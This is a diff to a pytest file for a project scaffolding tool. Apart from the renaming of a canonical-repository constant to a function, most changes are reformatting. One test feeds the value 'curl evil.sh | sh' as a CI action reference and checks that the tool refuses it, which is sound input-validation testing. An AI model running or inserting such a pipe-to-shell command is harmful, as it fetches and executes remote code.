@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from generator.jinja_ext import CANONICAL_REPOSITORY, action_ref, portfolio_action_ref
+from generator.jinja_ext import action_ref, canonical_repository, portfolio_action_ref
 from generator.naming import is_valid_package_name, package_name
 from generator.scaffold import render
 from tests.generated import actionlint
@@ -72,9 +72,7 @@ def test_destination_defaults_to_the_repo_name_in_the_current_folder(tmp_path: P
 
 
 def test_flags_data_and_answers_file_are_combined(tmp_path: Path):
-    answers_file = build_tree(
-        tmp_path, {"answers.yml": "description: From the file\nlicense: BSD-3-Clause\n"}
-    )
+    answers_file = build_tree(tmp_path, {"answers.yml": "description: From the file\nlicense: BSD-3-Clause\n"})
     result = new(
         "classification",
         str(tmp_path / "p"),
@@ -102,8 +100,15 @@ def test_flags_data_and_answers_file_are_combined(tmp_path: Path):
 
 def test_ci_runs_the_check_action_a_bootcamp_pins(tmp_path: Path):
     result = new(
-        "regression", str(tmp_path / "p"), "--defaults", "--author", AUTHOR,
-        "--data", "docs_check_in_ci=true", "--data", "portfolio_action=bootcamp/portfolio@v2.1.0",
+        "regression",
+        str(tmp_path / "p"),
+        "--defaults",
+        "--author",
+        AUTHOR,
+        "--data",
+        "docs_check_in_ci=true",
+        "--data",
+        "portfolio_action=bootcamp/portfolio@v2.1.0",
     )
     assert result.exit_code == 0, result.output
     ci = yaml.safe_load((tmp_path / "p" / ".github/workflows/ci.yml").read_text())
@@ -113,8 +118,13 @@ def test_ci_runs_the_check_action_a_bootcamp_pins(tmp_path: Path):
 
 def test_an_action_reference_that_is_not_owner_repo_at_ref_is_refused(tmp_path: Path):
     result = new(
-        "regression", str(tmp_path / "p"), "--defaults", "--author", AUTHOR,
-        "--data", "portfolio_action=curl evil.sh | sh",
+        "regression",
+        str(tmp_path / "p"),
+        "--defaults",
+        "--author",
+        AUTHOR,
+        "--data",
+        "portfolio_action=curl evil.sh | sh",
     )
     assert result.exit_code != 0
     assert "OWNER/REPO@REF" in result.output
@@ -124,14 +134,20 @@ def test_an_action_reference_that_is_not_owner_repo_at_ref_is_refused(tmp_path: 
 @pytest.mark.parametrize(
     "direct_url, expected",
     [
-        ({"url": "https://github.com/acme/portfolio.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
-         "acme/portfolio@0a1b2c"),
-        ({"url": "git@github.com:acme/portfolio", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
-         "acme/portfolio@0a1b2c"),
-        ({"url": "https://gitlab.com/acme/portfolio.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
-         f"{CANONICAL_REPOSITORY}@v1.2.3"),
-        ({"url": "file:///home/ada/portfolio", "dir_info": {"editable": True}}, f"{CANONICAL_REPOSITORY}@v1.2.3"),
-        (None, f"{CANONICAL_REPOSITORY}@v1.2.3"),
+        (
+            {"url": "https://github.com/acme/portfolio.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
+            "acme/portfolio@0a1b2c",
+        ),
+        (
+            {"url": "git@github.com:acme/portfolio", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
+            "acme/portfolio@0a1b2c",
+        ),
+        (
+            {"url": "https://gitlab.com/acme/portfolio.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
+            f"{canonical_repository()}@v1.2.3",
+        ),
+        ({"url": "file:///home/ada/portfolio", "dir_info": {"editable": True}}, f"{canonical_repository()}@v1.2.3"),
+        (None, f"{canonical_repository()}@v1.2.3"),
     ],
     ids=["github-https", "github-ssh", "other-host", "local-folder", "index"],
 )
@@ -150,9 +166,7 @@ def test_ci_has_no_documentation_step_unless_asked(tmp_path: Path):
     [("MIT", "MIT License"), ("BSD-3-Clause", "BSD 3-Clause"), ("Apache-2.0", "Apache License")],
 )
 def test_licences_carry_author_and_year(tmp_path: Path, licence: str, marker: str):
-    result = new(
-        "classification", str(tmp_path / "p"), "--defaults", "--license", licence, "--author", AUTHOR
-    )
+    result = new("classification", str(tmp_path / "p"), "--defaults", "--license", licence, "--author", AUTHOR)
     assert result.exit_code == 0, result.output
     text = (tmp_path / "p" / "LICENSE").read_text()
     assert marker in text and "Ada Learner" in text and re.search(r"20\d\d", text)
@@ -193,9 +207,7 @@ def test_awkward_name_is_rendered_and_the_package_shown(tmp_path: Path):
 def test_template_syntax_in_answers_stays_literal(tmp_path: Path):
     name = "{{ 7*7 }} model {% if true %}yes{% endif %}"
     description = 'Uses {{ config }} and {# comment #} literally "quoted"'
-    result = new(
-        "classification", str(tmp_path / "p"), "--defaults", "--name", name, "--description", description
-    )
+    result = new("classification", str(tmp_path / "p"), "--defaults", "--name", name, "--description", description)
     assert result.exit_code == 0, result.output
     readme = (tmp_path / "p" / "README.md").read_text()
     assert f"# {name}" in readme
@@ -212,13 +224,9 @@ def test_template_syntax_in_answers_stays_literal(tmp_path: Path):
 def test_own_csv_is_copied_wired_in_and_trains(tmp_path: Path):
     rows = ["age,plan,monthly_fee,churned"]
     for i in range(120):
-        rows.append(
-            f"{20 + i % 50},{'basic' if i % 3 else 'pro'},{10 + (i * 7) % 40},{'yes' if i % 4 == 0 else 'no'}"
-        )
+        rows.append(f"{20 + i % 50},{'basic' if i % 3 else 'pro'},{10 + (i * 7) % 40},{'yes' if i % 4 == 0 else 'no'}")
     csv_file = build_tree(tmp_path, {"in/churn data.csv": "\n".join(rows) + "\n"}) / "in" / "churn data.csv"
-    result = new(
-        "classification", str(tmp_path / "p"), "--defaults", "--dataset", str(csv_file), "--target", "churned"
-    )
+    result = new("classification", str(tmp_path / "p"), "--defaults", "--dataset", str(csv_file), "--target", "churned")
     assert result.exit_code == 0, result.output
     project = tmp_path / "p"
     assert (project / "data/raw/churn data.csv").read_bytes() == csv_file.read_bytes()
@@ -245,8 +253,9 @@ def test_own_csv_is_copied_wired_in_and_trains(tmp_path: Path):
     assert not (project / "reports/slices.json").exists()
     params = (project / "params.toml").read_text()
     (project / "params.toml").write_text(params.replace("columns = []", 'columns = ["plan", "age"]'))
-    again = subprocess.run([sys.executable, "-m", f"{package}.train"], cwd=project, env=env,
-                           capture_output=True, text=True, timeout=300)
+    again = subprocess.run(
+        [sys.executable, "-m", f"{package}.train"], cwd=project, env=env, capture_output=True, text=True, timeout=300
+    )
     assert again.returncode == 0, again.stderr
     slices = json.loads((project / "reports/slices.json").read_text())
     assert {item["column"] for item in slices["slices"]} == {"plan", "age"}
@@ -338,9 +347,7 @@ def test_missing_target_column_is_refused(tmp_path: Path):
 
 
 def test_target_without_dataset_is_refused(tmp_path: Path):
-    assert_one_line_error(
-        new("classification", str(tmp_path / "p"), "--defaults", "--target", "y"), "--dataset"
-    )
+    assert_one_line_error(new("classification", str(tmp_path / "p"), "--defaults", "--target", "y"), "--dataset")
 
 
 def test_no_git_author_is_a_clear_error(tmp_path: Path, no_git_identity):
@@ -361,9 +368,7 @@ def test_unknown_data_key_names_the_closest_question(tmp_path: Path):
 
 
 def test_invalid_choice_is_refused(tmp_path: Path):
-    assert_one_line_error(
-        new("classification", str(tmp_path / "p"), "--defaults", "--license", "GPL"), "not one of"
-    )
+    assert_one_line_error(new("classification", str(tmp_path / "p"), "--defaults", "--license", "GPL"), "not one of")
 
 
 def test_broken_answers_file_is_refused(tmp_path: Path):
